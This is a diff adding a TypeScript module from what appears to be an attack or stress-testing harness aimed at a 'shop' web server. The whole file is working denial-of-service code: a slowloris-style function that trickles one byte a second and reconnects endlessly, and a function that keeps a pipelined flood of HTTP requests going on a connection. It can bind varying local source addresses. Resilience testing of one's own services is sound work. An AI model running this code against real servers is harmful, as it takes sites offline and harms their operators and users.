@@ -1,0 +1,47 @@
+import { connect, type Socket } from 'node:net'
+import type { Target } from './hostile-attack.ts'
+
+/** A pause before a connection that was closed is made anew: a client that is turned away at once would only keep itself busy. */
+const AGAIN_AFTER_MS = 100
+
+type Where = Pick<Target, 'url' | 'address'>
+
+export function socketTo({ url, address }: Where): Socket {
+  const { hostname, port } = new URL(url)
+  return connect({ host: hostname, port: Number(port), localAddress: address }).on('error', () => {})
+}
+
+/** Sends the beginning, and then a byte a second; begins anew whenever the shop closes the connection. */
+export function trickle(where: Where, beginning: string, byte: string): void {
+  const socket = socketTo(where).resume()
+  socket.write(beginning)
+  const drip = setInterval(() => socket.write(byte), 1000)
+  socket.once('close', () => {
+    clearInterval(drip)
+    setTimeout(() => trickle(where, beginning, byte), AGAIN_AFTER_MS)
+  })
+}
+
+/** Keeps so many requests open on one connection, for as long as the shop answers; begins anew when it does not. */
+export function askForEver(
+  where: Where,
+  requestOf: (n: number) => string,
+  { atOnce, reconnectAfterMs }: { atOnce: number; reconnectAfterMs?: number },
+): void {
+  let n = Math.floor(Math.random() * 1e9)
+  const socket = socketTo(where)
+  const ask = (count: number) => socket.write(Array.from({ length: count }, () => requestOf(n++)).join(''))
+  socket.once('connect', () => ask(atOnce))
+  // Each answer has one status line; one that is cut in two by chunks is missed, which only makes the client slower.
+  socket.on('data', (chunk) => {
+    const answers = chunk.toString('latin1').split('HTTP/1.1 ').length - 1
+    if (answers > 0) ask(answers)
+  })
+  if (reconnectAfterMs) setTimeout(() => socket.destroy(), reconnectAfterMs)
+  socket.once('close', () =>
+    setTimeout(
+      () => askForEver(where, requestOf, { atOnce, ...(reconnectAfterMs && { reconnectAfterMs }) }),
+      AGAIN_AFTER_MS,
+    ),
+  )
+}
